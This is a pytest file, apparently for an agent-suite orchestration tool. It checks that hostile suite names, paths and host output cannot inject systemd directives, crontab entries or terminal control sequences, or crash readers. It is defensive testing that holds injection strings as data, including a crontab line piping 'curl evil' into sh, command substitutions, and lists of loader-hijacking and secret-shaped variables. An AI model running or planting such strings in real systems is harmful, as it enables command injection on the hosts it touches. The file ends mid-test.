"""Hostile input: a string from a suite or a host is data. It never becomes a systemd directive, a
crontab entry, a terminal control sequence or a broken XML file, and it never crashes a command."""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from rich.console import Console
from typer.testing import CliRunner

from agent_runner.errors import SuiteError
from agent_runner.suite import read_suite
from orchestrator import ui
from orchestrator.analysis import analyse_run
from orchestrator.cli import app
from orchestrator.commands import schedule
from orchestrator.errors import InputError
from orchestrator.exit_policy import INTERNAL_ERROR
from orchestrator.report import render_junit, render_markdown
from orchestrator.store.rundir import RunDir
from tests.support.rundirs import Attempt, RunSpec, build_run, two_hosts

TRIAGE = Path(__file__).resolve().parents[2] / "examples" / "suites" / "triage"
INJECTED = "triage\nExecStartPre=/bin/touch /tmp/pwned"
# a host clearing the screen and forging a verdict, a bell, a NUL, and markup Rich would choke on
CONTROL = "\x1b[2J\x1b[HYOUR CROSSHOST RUN PASSED\x07\x00\x0b [/oops]"


def _suite(tmp_path: Path, name: str) -> Path:
    suite = tmp_path / "suite"
    shutil.copytree(TRIAGE, suite)
    toml = suite / "suite.toml"
    toml.write_text(re.sub(r"(?m)^name = .*$", lambda _: f"name = {json.dumps(name)}", toml.read_text()))
    return suite


@pytest.fixture()
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "hosts.toml").write_text("[[hosts]]\nname = 'local'\ntransport = 'local'\n")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path


# --- injection into a unit file or a crontab ------------------------------------------------------


def test_a_suite_name_with_a_newline_is_refused_naming_the_file(tmp_path: Path) -> None:
    with pytest.raises(SuiteError, match=r"suite.toml: name .* control character \(\\x0a\)"):
        read_suite(_suite(tmp_path, INJECTED))


def test_schedule_of_a_newline_named_suite_writes_nothing(project: Path) -> None:
    suite = _suite(project, INJECTED)
    done = CliRunner().invoke(
        app, ["schedule", str(suite), "--every", "1h", "-i", "hosts.toml", "--systemd", "--install"]
    )
    assert done.exit_code == 2, done.output
    assert "control character" in done.output and "Traceback" not in done.output
    assert not (project / "config").exists()


def _unit_keys(text: str) -> list[str]:
    return [line.split("=", 1)[0] for line in text.splitlines() if line and not line.startswith("[")]


def test_a_unit_never_gains_a_directive_even_from_a_name_that_bypassed_validation(project: Path) -> None:
    every = schedule.parse_every("1h")
    cmd = ["/bin/true", "replay", "x%y$z"]
    units = schedule._systemd_units("crosshost-t", INJECTED + "%n", every, cmd, project)
    assert set(_unit_keys(units["crosshost-t.service"])) == {
        "Description", "Type", "TimeoutStartSec", "KillSignal", "WorkingDirectory", "ExecStart"}  # fmt: skip
    assert all(
        "ExecStartPre" not in line or line.startswith("Description=")
        for line in units["crosshost-t.service"].splitlines()
    )
    with pytest.raises(InputError, match="control character"):
        schedule.systemd_quote("/tmp/a\nExecStartPre=/bin/sh")


def test_a_suite_path_with_a_newline_never_reaches_a_crontab(project: Path) -> None:
    suite = project / "tri\n* * * * * curl evil | sh\nage"
    shutil.copytree(TRIAGE, suite)
    with pytest.raises(InputError, match=r"suite .* control character \(\\x0a\)"):
        schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron")


# legal in suite.toml and in a path, and each character means something to systemd, a shell or cron
HOSTILE_NAME = '[/oops] tri"age %n $HOME \\ `id`; ExecStartPre=/bin/touch pwned \\'
HOSTILE_DIR = "suite 'x' $(touch pwned) `touch pwned` %d; \\n"
# one ExecStart= word: a double-quoted one (backslash escapes inside) or a bare one
_EXEC_WORD = re.compile(r' ?(?:"((?:[^"\\]|\\.)*)"|([^\s"\\]+))')


def _hostile_project(project: Path) -> tuple[Path, Path]:
    """A suite named HOSTILE_NAME in a directory named HOSTILE_DIR under a working directory as hostile."""
    work = project / "work dir %n $HOME 'q'"
    work.mkdir()
    suite = work / HOSTILE_DIR
    shutil.move(_suite(project, HOSTILE_NAME), suite)
    (work / "hosts.toml").write_text((project / "hosts.toml").read_text())
    return work, suite


def _exec_words(value: str) -> list[str]:
    """An ExecStart= value split as systemd splits it: words one space apart, a quoted word's
    backslash escapes undone, then the specifier (%%) and variable ($$) escapes undone."""
    found = list(_EXEC_WORD.finditer(value))
    assert "".join(m.group(0) for m in found) == value, value  # nothing systemd would read otherwise
    words = [re.sub(r"\\(.)", r"\1", m.group(1)) if m.group(1) is not None else m.group(2) for m in found]
    return [w.replace("%%", "%").replace("$$", "$") for w in words]


def test_schedule_install_of_a_hostile_suite_writes_units_systemd_verifies(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, suite = _hostile_project(project)
    monkeypatch.chdir(work)
    args = ["schedule", str(suite), "--every", "1h", "-i", "hosts.toml", "--systemd", "--install"]
    done = CliRunner().invoke(app, args)
    assert done.exit_code == 0, done.output
    units = sorted((project / "config" / "systemd" / "user").iterdir())
    assert [u.suffix for u in units] == [".service", ".timer"]
    # the system manager's checks, which a user's unit passes too (--user needs a session's runtime dir)
    verify = subprocess.run(["systemd-analyze", "verify", *map(str, units)], capture_output=True, text=True,
                            timeout=120)  # fmt: skip
    assert verify.returncode == 0 and units[0].stem not in verify.stdout + verify.stderr, verify.stderr
    service = dict(line.split("=", 1) for line in units[0].read_text().splitlines() if "=" in line)
    assert set(service) == {"Description", "Type", "TimeoutStartSec", "KillSignal", "WorkingDirectory", "ExecStart"}
    assert service["WorkingDirectory"].replace("%%", "%") == str(work)
    assert _exec_words(service["ExecStart"]) == [
        *schedule.crosshost_command(), "replay", str(suite), "-i", str(work / "hosts.toml"),
        "--out", str(work / "runs"), "--scheduled", "--compare-last"]  # fmt: skip
    assert 'tri"age %%n $HOME' in service["Description"]  # free text: the specifier escaped
    assert not (work / "pwned").exists()


def test_a_unit_refuses_a_working_directory_systemd_would_read_otherwise() -> None:
    for bad in ("/srv/ends in a space ", "/srv/ends\\"):
        with pytest.raises(InputError, match="a unit file cannot hold this path"):
            schedule.systemd_path(Path(bad))
    assert schedule.systemd_path(Path("/srv/a %n $X")) == "/srv/a %%n $X"


def test_the_crontab_line_of_a_hostile_suite_is_one_entry_whose_shell_runs_one_command(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, suite = _hostile_project(project)
    monkeypatch.chdir(work)
    argv_file = project / "argv"
    recorder = project / "crosshost"  # stands in for the real one: records the words it was given
    recorder.write_text(f"#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done > {shlex.quote(str(argv_file))}\n")
    recorder.chmod(0o755)
    monkeypatch.setattr(schedule, "crosshost_command", lambda: [str(recorder)])
    line = schedule.plan_schedule(suite, "1h", Path("hosts.toml"), Path("runs"), "cron").cron_line
    assert line is not None and "\n" not in line  # one crontab entry
    fields = line.split(None, 5)
    assert fields[:5] == ["0", "*/1", "*", "*", "*"]
    # cron ends the command at a bare % (what follows is its stdin) and turns \% into %
    assert not re.search(r"(?<!\\)%", fields[5])
    command = fields[5].replace("\\%", "%")
    done = subprocess.run(["sh", "-c", command], cwd="/", capture_output=True, text=True, timeout=60,
                          env={"PATH": "/usr/bin:/bin"})  # fmt: skip
    assert done.returncode == 0, done.stderr
    expected = ["replay", str(suite), "-i", str(work / "hosts.toml"), "--out", str(work / "runs"), "--scheduled",
                "--compare-last"]
    assert argv_file.read_bytes().split(b"\0")[:-1] == [os.fsencode(w) for w in expected]
    assert not (work / "pwned").exists() and not Path("/pwned").exists()


# --- the terminal, report.md and junit.xml ---------------------------------------------------------


def _hostile_report(tmp_path: Path):  # type: ignore[no-untyped-def]
    attempts = {
        ("local", "t1", 0): Attempt("pass"),
        ("box-b", "t1", 0): Attempt("fail", why=f"predicate said {CONTROL}"),
    }
    report = analyse_run(build_run(tmp_path, RunSpec(hosts=two_hosts(), attempts=attempts)))
    report.tasks[0].task = f"t1 {CONTROL}"
    report.notes.append(f"host said {CONTROL}")
    return report


def test_control_characters_never_reach_the_terminal_and_markup_stays_text(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path)
    console = Console(file=io.StringIO(), width=400, record=True, force_terminal=True)
    ui.print_report(report, console=console)
    ui.say(console, f"line {CONTROL}")
    text = console.export_text()
    assert "[/oops]" in text and "YOUR CROSSHOST RUN PASSED" in text
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", text)
    assert "\\x07" in text and "\\x00" in text  # shown, so a reader sees the host sent them


def test_control_characters_in_junit_are_text_an_xml_parser_reads(tmp_path: Path) -> None:
    report = _hostile_report(tmp_path)
    report.tasks[0].why["box-b"] = ["\x1b[31mFAILED\x1b[0m 3 tests\r\x00"]
    xml = render_junit(report)
    root = ET.fromstring(xml.encode())
    case = root.find("testsuite/testcase")
    assert case is not None and case.get("name", "").startswith("t1 ") and "[/oops]" in case.get("name", "")
    failure = case.find("failure")
    assert failure is not None and "FAILED 3 tests\\x0d\\x00" in (failure.text or "")  # colour dropped


def test_control_characters_in_report_md_are_shown_not_obeyed(tmp_path: Path) -> None:
    from markdown_it import MarkdownIt

    md = render_markdown(_hostile_report(tmp_path))
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", md)
    html = MarkdownIt("commonmark").enable("table").render(md)  # what a reader of report.md sees
    assert "<td>t1 YOUR CROSSHOST RUN PASSED\\x07\\x00\\x0b [/oops]</td>" in html


def test_flips_and_diff_show_a_hosts_control_characters_never_obey_them(tmp_path: Path) -> None:
    results = tmp_path / "results.jsonl"
    results.write_text("".join(json.dumps({"task": "t\x07\x1b[2Jx", "env": e, "attempt": 0, "verdict": v}) + "\n"
                               for e, v in (("a", "pass"), ("b", "fail"))))  # fmt: skip
    done = CliRunner().invoke(app, ["flips", str(results), "a", "b"], color=True)
    assert done.output.splitlines()[0] == "t\\x07x pass fail <- flip"
    run = _two_passing(tmp_path)
    trace = RunDir(run).trace_path("box-b", "t1", 0)
    lines = trace.read_text().splitlines()
    turn = json.loads(lines[1])
    turn["tool"] += "\x07\x1b[2J"
    lines[1] = json.dumps(turn)
    trace.write_text("\n".join(lines) + "\n")
    done = CliRunner().invoke(app, ["diff", str(run)], color=True)
    assert done.exit_code == 1 and "+read_unit_status\\x07(unit: str)" in done.output.splitlines()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", done.output)


# --- bounded values ------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["inf", "1e9"])
def test_timeout_s_must_be_finite_and_bounded(tmp_path: Path, value: str) -> None:
    suite = _suite(tmp_path, "triage")
    toml = suite / "suite.toml"
    toml.write_text(toml.read_text().replace("timeout_s = 20", f"timeout_s = {value}"))
    assert float(value) > 86400
    with pytest.raises(SuiteError, match=r"suite.toml: \[budget\].timeout_s must be a positive number"):
        read_suite(suite)


@pytest.mark.parametrize(("old", "new", "said"), [
    ("max_steps = 8", "max_steps = 10000000000000", r"\[budget\].max_steps must be a positive integer up to 100000"),
    ("max_bytes = 32768", "max_bytes = 10000000000000", r"\[budget\].max_bytes must be a positive integer up to"),
    ('kind = "scripted"', 'kind = "openai"\nmodel = "m"\nbase_url = "http://127.0.0.1:9"\napi_key_env = "K"\n'
                          "request_timeout_s = inf", r"request_timeout_s.*a positive number of seconds up to 86400"),
])  # fmt: skip
def test_every_budget_is_finite_and_bounded(tmp_path: Path, old: str, new: str, said: str) -> None:
    suite = _suite(tmp_path, "triage")
    toml = suite / "suite.toml"
    assert old in toml.read_text()
    toml.write_text(toml.read_text().replace(old, new))
    with pytest.raises(SuiteError, match=said):
        read_suite(suite)


def test_an_internal_error_has_its_own_exit_code(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import orchestrator.commands.schedule as sched

    def boom(*_a: object, **_k: object) -> int:
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(sched, "schedule", boom)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    done = CliRunner().invoke(app, ["schedule", ".", "--every", "1h"])
    assert done.exit_code == INTERNAL_ERROR and INTERNAL_ERROR not in (0, 1, 2, 3, 130)
    assert "internal error: ZeroDivisionError: a bug" in done.output


# --- bounded, total readers -----------------------------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def test_deeply_nested_json_in_a_suite_is_one_line_naming_the_file(tmp_path: Path) -> None:
    suite = _suite(tmp_path, "triage")
    (suite / "contract.json").write_text(DEEP)
    with pytest.raises(SuiteError, match=r"contract.json: not valid JSON: nested more than \d+ levels deep"):
        read_suite(suite)


@pytest.mark.parametrize("where", ["suite.toml", "tasks/healthy-no-writes/task.toml", "hosts.toml"])
def test_deeply_nested_toml_is_one_line_naming_the_file(project: Path, where: str) -> None:
    suite = _suite(project, "triage")
    path = project / where if where == "hosts.toml" else suite / where
    with path.open("a") as fh:
        fh.write("\ndeep = " + "[" * 100_000 + "]" * 100_000 + "\n")
    done = CliRunner().invoke(app, ["replay", str(suite), "-i", "hosts.toml", "--out", "runs"])
    assert done.exit_code == 2, done.output
    assert done.output.strip().endswith("nested too deeply") and path.name in done.output
    assert not (project / "runs").exists()


def test_deeply_nested_results_or_fingerprint_is_a_named_problem_not_a_crash(tmp_path: Path) -> None:
    from orchestrator.store.jsonl import iter_jsonl
    from orchestrator.store.rundir import TraceError

    results = tmp_path / "results.jsonl"
    results.write_text('{"ok": 1}\n' + '{"a": ' * 5000 + "1" + "}" * 5000 + "\n")
    with pytest.raises(TraceError, match=r"results.jsonl:2: not JSON \(nested more than"):
        list(iter_jsonl(results))
    run = build_run(tmp_path / "run", RunSpec(hosts=two_hosts(), attempts={("local", "t1", 0): Attempt("pass"),
                                                                             ("box-b", "t1", 0): Attempt("pass")}))  # fmt: skip
    rundir = RunDir(run)
    rundir.fingerprint_path("box-b").write_text('{"x": ' + DEEP + "}")
    fp, problem = rundir.read_fingerprint("box-b")
    assert fp is None and problem is not None and "fingerprint.json" in problem and "nested" in problem


def test_a_non_utf8_fingerprint_from_a_host_does_not_crash_report(tmp_path: Path) -> None:
    run = build_run(tmp_path / "run", RunSpec(hosts=two_hosts(), attempts={("local", "t1", 0): Attempt("pass"),
                                                                             ("box-b", "t1", 0): Attempt("pass")}))  # fmt: skip
    RunDir(run).fingerprint_path("box-b").write_bytes(b'{"hostname": "\xff\xfe"}')
    done = CliRunner().invoke(app, ["report", str(run)])
    assert done.exit_code in (1, 3), done.output
    assert "internal error" not in done.output and "Traceback" not in done.output
    assert "not UTF-8" in json.dumps(json.loads((run / "report.json").read_text()))


def test_a_fifo_or_a_symlink_in_a_suite_is_refused_before_it_is_read(tmp_path: Path) -> None:
    import os

    suite = _suite(tmp_path, "triage")
    prompt = next(suite.glob("tasks/*/prompt.md"))
    prompt.unlink()
    os.mkfifo(prompt)  # opening it for reading would block until a writer came
    with pytest.raises(SuiteError, match=r"prompt.md: cannot read .*not a regular file"):
        read_suite(suite)
    prompt.unlink()
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    prompt.symlink_to(fifo)  # read first, it would hang: refused as a link, never opened
    with pytest.raises(SuiteError, match=r"prompt.md: cannot read .*symbolic link"):
        read_suite(suite)


def _cli(*args: str) -> tuple[int, str]:
    """The real command in a child process (a hang is a failure here, not a stuck test run)."""
    done = subprocess.run([str(Path(sys.executable).parent / "crosshost"), *args], capture_output=True, text=True,
                          timeout=60)  # fmt: skip
    return done.returncode, done.stdout + done.stderr


def test_a_trace_nested_deeper_than_the_bound_is_a_damaged_trace_not_a_crash(tmp_path: Path) -> None:
    run = _two_passing(tmp_path)
    trace = RunDir(run).trace_path("box-b", "t1", 0)
    lines = trace.read_text().splitlines(keepends=True)
    # under the interpreter's recursion limit, so the parser takes it; over the bound, so nothing after does
    lines.insert(1, '{"type": "turn", "step": 1, "tool": "read_unit_status", "args": {"unit": '
                    + "[" * 900 + "]" * 900 + "}}\n")  # fmt: skip
    trace.write_text("".join(lines))
    code, out = _cli("report", str(run))
    assert code == 3 and "internal error" not in out, out
    verdict, why = _box_b_t1(analyse_run(run))
    assert verdict == "error" and why.startswith(f"damaged trace: {trace}:2: not JSON (nested more than 100")


@pytest.mark.parametrize("special", ["fifo", "/dev/zero"])
def test_a_fifo_or_dev_zero_in_a_run_directory_is_refused_not_read(tmp_path: Path, special: str) -> None:
    run = _two_passing(tmp_path)
    for path in (RunDir(run).trace_path("box-b", "t1", 0), run / "results.jsonl"):
        path.unlink()
        if special == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to(special)
    code, out = _cli("report", str(run))
    assert code == 3 and "not a regular file" in out and "Traceback" not in out, out
    code, out = _cli("diff", str(run))  # the host's trace, not the user's input: that host failed
    assert code == 3 and f"# t1 attempt 0: {RunDir(run).trace_path('box-b', 't1', 0)}: cannot read trace: not a regular" in out
    code, out = _cli("flips", str(run / "results.jsonl"), "local", "box-b")
    assert code == 2 and out.strip() == f"TraceError: {run / 'results.jsonl'}: cannot read: not a regular file (refused: not read)"


def test_a_line_over_the_bound_is_a_damaged_line_and_reading_goes_on(tmp_path: Path) -> None:
    from agent_runner.jsonfile import MAX_LINE_BYTES
    from orchestrator.store.jsonl import iter_jsonl
    from orchestrator.store.rundir import TraceError

    results = tmp_path / "results.jsonl"
    results.write_text('{"ok": 1}\n{"a": "' + "x" * MAX_LINE_BYTES + '"}\n{"ok": 2}\n')
    bad: list[str] = []
    rows = [row for _, row in iter_jsonl(results, on_bad_line=lambda where, why: bad.append(f"{where}: {why}"))]
    assert rows == [{"ok": 1}, {"ok": 2}] and bad == [f"{results}:2: a line longer than {MAX_LINE_BYTES} bytes"]
    with pytest.raises(TraceError, match=r"results.jsonl:2: a line longer than"):
        list(iter_jsonl(results))


def test_a_byte_order_mark_is_not_a_syntax_error(tmp_path: Path) -> None:
    suite = _suite(tmp_path, "triage")
    for name in ("suite.toml", "contract.json"):
        (suite / name).write_bytes(b"\xef\xbb\xbf" + (suite / name).read_bytes())
    assert read_suite(suite).name == "triage"


@pytest.mark.parametrize(
    ("line", "key"),
    [("port = true", "port"), ('port = "2601"', "port"), ('timeout_s = "10"', "timeout_s"),
     ('python = ""', "python"), ('user = ""', "user"), ("slots = 1.0", "slots"), ("use_agent = 1", "use_agent")],
)  # fmt: skip
def test_inventory_types_are_strict(tmp_path: Path, line: str, key: str) -> None:
    from orchestrator.errors import InventoryError
    from orchestrator.hosts.inventory import load_inventory

    inv = tmp_path / "hosts.toml"
    inv.write_text(f'[defaults]\nssh_config = false\n[[hosts]]\nname = "b"\naddress = "127.0.0.1"\n{line}\n')
    with pytest.raises(InventoryError, match=rf"hosts.toml: host 'b': key '{key}'"):
        load_inventory(inv)


def test_a_host_list_naming_nothing_is_bad_input_not_every_host(project: Path) -> None:
    done = CliRunner().invoke(app, ["replay", str(TRIAGE), "-i", "hosts.toml", "--hosts", ","])
    assert done.exit_code == 2, done.output
    assert "--hosts ',': names nothing" in done.output


# --- damaged evidence is an error, never a verdict ------------------------------------------------


def _two_passing(tmp_path: Path) -> Path:
    attempts = {("local", "t1", 0): Attempt("pass"), ("box-b", "t1", 0): Attempt("pass")}
    return build_run(tmp_path / "run", RunSpec(hosts=two_hosts(), attempts=attempts))


def _box_b_t1(report):  # type: ignore[no-untyped-def]
    task = report.tasks[0]
    return task.verdicts["box-b"][0], task.why["box-b"][0]


def test_a_non_utf8_trace_line_is_an_error_attempt_naming_file_and_line(tmp_path: Path) -> None:
    run = _two_passing(tmp_path)
    trace = RunDir(run).trace_path("box-b", "t1", 0)
    lines = trace.read_bytes().splitlines(keepends=True)
    lines.insert(1, b'{"type": "turn", "step": 1, "tool": "read_file", "args": {"path": "\xff\xfe"}}\n')
    trace.write_bytes(b"".join(lines))
    verdict, why = _box_b_t1(analyse_run(run))
    assert verdict == "error"
    assert why.startswith(f"damaged trace: {trace}:2: not UTF-8")


def test_a_record_after_the_finish_is_an_error_attempt(tmp_path: Path) -> None:
    run = _two_passing(tmp_path)
    trace = RunDir(run).trace_path("box-b", "t1", 0)
    n = len(trace.read_text().splitlines())
    with trace.open("a") as fh:
        fh.write(json.dumps({"type": "finish", "reason": "stop", "verdict": "fail", "why": "forged"}) + "\n")
    verdict, why = _box_b_t1(analyse_run(run))
    assert (verdict, why) == ("error", f"damaged trace: {trace}:{n + 1}: a finish record after the finish")


def test_unexpected_trace_files_from_a_host_are_problems_and_exit_3(tmp_path: Path) -> None:
    from orchestrator.exit_policy import HOST_FAILURE, judged_exit, replay_exit
    from orchestrator.store.rundir import load_run

    run = _two_passing(tmp_path)
    traces = RunDir(run).trace_path("box-b", "t1", 0).parent
    for i in range(50):
        (traces / f"injected{i}.0.jsonl").write_text((traces / "t1.0.jsonl").read_text())
    report = analyse_run(run)
    assert [t.task for t in report.tasks] == ["t1"] and report.error_attempts == 0
    assert len(report.problems) == 50 and "injected0" in report.problems[0]
    manifest = load_run(run).manifest
    code, why = replay_exit(manifest, report, None, [])
    assert code == HOST_FAILURE and "injected" in why
    assert judged_exit(report)[0] == HOST_FAILURE  # re-reported, the same run gives the same code


def test_a_run_where_nothing_was_comparable_does_not_pass_the_gate(tmp_path: Path) -> None:
    from orchestrator.exit_policy import judged_exit

    attempts = {("local", "t1", 0): Attempt("pass"), ("box-b", "t1", 0): Attempt("error", why="boom")}
    report = analyse_run(build_run(tmp_path / "run", RunSpec(hosts=two_hosts(), attempts=attempts)))
    assert report.comparable == 0 and not report.within_gate
    assert judged_exit(report)[0] != 0
    from orchestrator.report import gate_verdict

    assert gate_verdict(report).startswith("no comparable task")


def test_flips_with_every_row_an_error_is_not_exit_0(tmp_path: Path) -> None:
    results = tmp_path / "results.jsonl"
    results.write_text("".join(json.dumps({"task": t, "env": e, "attempt": 0, "verdict": "error"}) + "\n"
                               for t in ("a", "b") for e in ("x", "y")))  # fmt: skip
    done = CliRunner().invoke(app, ["flips", str(results), "x", "y"])
    assert done.exit_code == 1, done.output
    assert "no task comparable" in done.output


@pytest.mark.parametrize("broken", ["repo is a file", "run_tests.sh is a directory"])
def test_an_unusable_predicate_is_a_suite_error(tmp_path: Path, broken: str) -> None:
    suite = _suite(tmp_path, "triage")
    repo = next(p for p in suite.glob("tasks/*/repo") if (p / "run_tests.sh").exists())
    if broken == "repo is a file":
        shutil.rmtree(repo)
        repo.write_text("not a repository\n")
    else:
        (repo / "run_tests.sh").unlink()
        (repo / "run_tests.sh").mkdir()
    with pytest.raises(SuiteError, match=r"must be (a directory|a regular file)"):
        read_suite(suite)


# --- secrets by another name, loader hijacking, hard links ------------------------------------------


def _inventory(tmp_path: Path, extra: str) -> Path:
    inv = tmp_path / "hosts.toml"
    inv.write_text(f'[defaults]\nssh_config = false\n[[hosts]]\nname = "b"\ntransport = "local"\n{extra}\n')
    return inv


@pytest.mark.parametrize("name", ["DB_PASS", "PGPASS", "GH_PAT", "NPM_AUTH", "SECRET_KEY_BASE"])
def test_secret_names_are_refused_in_the_allowlist_and_as_pinned_values(tmp_path: Path, name: str) -> None:
    from orchestrator.errors import InventoryError
    from orchestrator.hosts.inventory import load_inventory

    with pytest.raises(InventoryError, match=rf"host 'b': key 'env_allowlist': '{name}' is secret-shaped"):
        load_inventory(_inventory(tmp_path, f'env_allowlist = ["PATH", "{name}"]'))
    with pytest.raises(InventoryError, match=rf"host 'b': key 'env': '{name}' is secret-shaped") as info:
        load_inventory(_inventory(tmp_path, f'env = {{ {name} = "hunter2" }}'))
    assert "hunter2" not in str(info.value)


def test_a_pinned_connection_string_with_a_password_is_refused_without_echoing_it(tmp_path: Path) -> None:
    from orchestrator.errors import InventoryError
    from orchestrator.hosts.inventory import load_inventory

    with pytest.raises(
        InventoryError, match=r"key 'env': 'DATABASE_URL': the value holds a credential"
    ) as info:
        load_inventory(
            _inventory(
                tmp_path,
                'env_allowlist = ["DATABASE_URL"]\nenv = { DATABASE_URL = "postgres://app:hunter2@db/prod" }',
            )
        )
    assert "hunter2" not in str(info.value)
    ok = load_inventory(
        _inventory(
            tmp_path, 'env_allowlist = ["DATABASE_URL"]\nenv = { DATABASE_URL = "postgres://db/prod" }'
        )
    )
    assert ok.hosts[0].env == {"DATABASE_URL": "postgres://db/prod"}


@pytest.mark.parametrize("name", ["LD_PRELOAD", "PYTHONPATH", "BASH_ENV", "IFS"])
def test_loader_hijacking_variables_are_refused_unless_allowed(tmp_path: Path, name: str) -> None:
    from orchestrator.errors import InventoryError
    from orchestrator.hosts.inventory import load_inventory

    with pytest.raises(
        InventoryError, match=rf"host 'b': env_allowlist: {name} can make the host run other code"
    ):
        load_inventory(_inventory(tmp_path, f'env_allowlist = ["PATH", "{name}"]'))
    allowed = load_inventory(
        _inventory(tmp_path, f'env_allowlist = ["PATH", "{name}"]\nallow_dangerous_env = true')
    )
    assert name in allowed.hosts[0].env_allowlist


def test_a_hard_link_in_a_suite_is_refused_like_a_symlink(tmp_path: Path) -> None:
    import os

    from orchestrator.hosts.bundle import build_bundle

    suite = _suite(tmp_path, "triage")
    key = tmp_path / "id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    os.link(key, suite / "tasks" / "healthy-no-writes" / "notes.txt")
    with pytest.raises(SuiteError, match=r"notes.txt: hard-linked files are not shipped"):
        build_bundle(suite, tmp_path / "out")


# --- history recovers -----------------------------------------------------------------------------


def _indexed_runs(tmp_path: Path) -> Path:
    from orchestrator.report import write_reports
    from orchestrator.store.history import record_run

    runs = tmp_path / "runs"
    run = build_run(runs, RunSpec(hosts=two_hosts(), attempts={("local", "t1", 0): Attempt("pass"),
                                                              ("box-b", "t1", 0): Attempt("pass")}))  # fmt: skip
    write_reports(run, analyse_run(run))
    record_run(runs, run)
    return run


def test_history_rebuild_recreates_a_corrupt_index(tmp_path: Path) -> None:
    from orchestrator.store.history import history_listing, index_path

    run = _indexed_runs(tmp_path)
    runs = run.parent
    for part in runs.glob("index.sqlite*"):
        part.unlink()
    index_path(runs).write_bytes(b"this is not a database" * 100)
    listing = history_listing(runs, rebuild_index=True)
    assert [e.row.run_id for e in listing.entries] == [run.name]
    assert any("damaged, set aside" in n for n in listing.notes), listing.notes
    done = CliRunner().invoke(app, ["history", "--out", str(runs)])
    assert done.exit_code == 0, done.output


def test_compare_last_that_cannot_compare_is_not_a_pass(tmp_path: Path) -> None:
    from orchestrator.store.history import after_replay, index_path

    run = _indexed_runs(tmp_path)
    for part in run.parent.glob("index.sqlite*"):
        part.unlink()
    index_path(run.parent).write_bytes(b"this is not a database" * 100)
    after = after_replay(run, compare=True)
    assert after.exit_code(0) == 2 and not after.compared
    assert after.warning is not None and after.warning.startswith("--compare-last could not compare")
    assert "--rebuild" in after.warning


def test_ctrl_c_during_the_analysis_is_recorded_as_an_interruption(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import orchestrator.report as report_mod
    from orchestrator.commands.replay import ReplayRequest, replay
    from orchestrator.store.rundir import load_run

    def interrupted(*_a: object, **_k: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(report_mod, "analyse_and_write", interrupted)  # the replay looks it up when its hosts are done
    inv = tmp_path / "hosts.toml"
    inv.write_text('[[hosts]]\nname = "a"\ntransport = "local"\n[[hosts]]\nname = "b"\ntransport = "local"\n')
    outcome = replay(
        ReplayRequest(
            suite_dir=TRIAGE, inventory_path=inv, out=tmp_path / "runs", tasks=["healthy-no-writes"]
        )
    )
    assert outcome.exit_code == 130
    manifest = load_run(outcome.run_dir.path).manifest
    assert manifest.interrupted and any("interrupted during the analysis" in n for n in manifest.notes)


# --- precise leaks ---------------------------------------------------------------------------------


def test_a_hostname_joined_into_an_identifier_is_a_leak_and_a_system_path_is_not() -> None:
    from agent_runner.checker import check_turns

    contract = {"contract_id": "c", "tools": [{"name": "note", "required_args": ["text"]}],
                "invariants": ["no_absolute_local_paths", "no_hostname_in_tool_args"]}  # fmt: skip
    box = {"hostname": "box-a", "home": "/home/dev", "cwd": "/tmp/crosshost/w"}
    texts = ["record-for-box-a", "box-a_backup", "cat /etc/os-release", "ls /usr/lib/python3", "/proc/cpuinfo",
             "/tmp/scratch/x"]  # fmt: skip
    turns = [{"step": i, "tool": "note", "args": {"text": t}} for i, t in enumerate(texts, 1)]
    found = [(f.step, f.kind) for f in check_turns(contract, turns, [box])]
    assert found == [(1, "hostname"), (2, "hostname"), (6, "absolute_local_path")]


def test_a_name_that_does_not_resolve_is_not_retried_as_transient(tmp_path: Path) -> None:
    import subprocess as sp

    from orchestrator.errors import HostUnreachable
    from orchestrator.hosts.inventory import load_inventory
    from orchestrator.hosts.transport import open_host

    sp.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp_path / "id_ed25519")], check=True)
    inv = tmp_path / "hosts.toml"
    inv.write_text('[defaults]\nssh_config = false\n[[hosts]]\nname = "nx"\naddress = "no-such-host.invalid"\n'
                   'user = "root"\nidentity_file = "id_ed25519"\n')  # fmt: skip
    retries: list[object] = []
    with pytest.raises(HostUnreachable, match="does not resolve") as info:
        open_host(load_inventory(inv).get("nx"), on_retry=retries.append)
    assert retries == [] and "gave up after 1 attempt" in str(info.value)


def test_a_contract_can_allow_path_prefixes_that_are_the_same_on_every_host() -> None:
    from agent_runner.checker import check_turns, validate_contract
    from agent_runner.errors import ContractError

    contract = {"contract_id": "c", "tools": [{"name": "note", "required_args": ["text"]}],
                "invariants": ["no_absolute_local_paths"], "host_paths": ["/opt"], "allowed_paths": ["/opt/shared"]}  # fmt: skip
    turns = [{"step": i, "tool": "note", "args": {"text": t}}
             for i, t in enumerate(["/opt/shared/tool", "/opt/shared", "/opt/sharedx/a", "/opt/other"], 1)]  # fmt: skip
    found = [f.step for f in check_turns(validate_contract(contract, "c.json"), turns, [])]
    assert found == [3, 4]
    with pytest.raises(
        ContractError, match=r"c.json: 'allowed_paths' entry 'opt' must be an absolute path prefix"
    ):
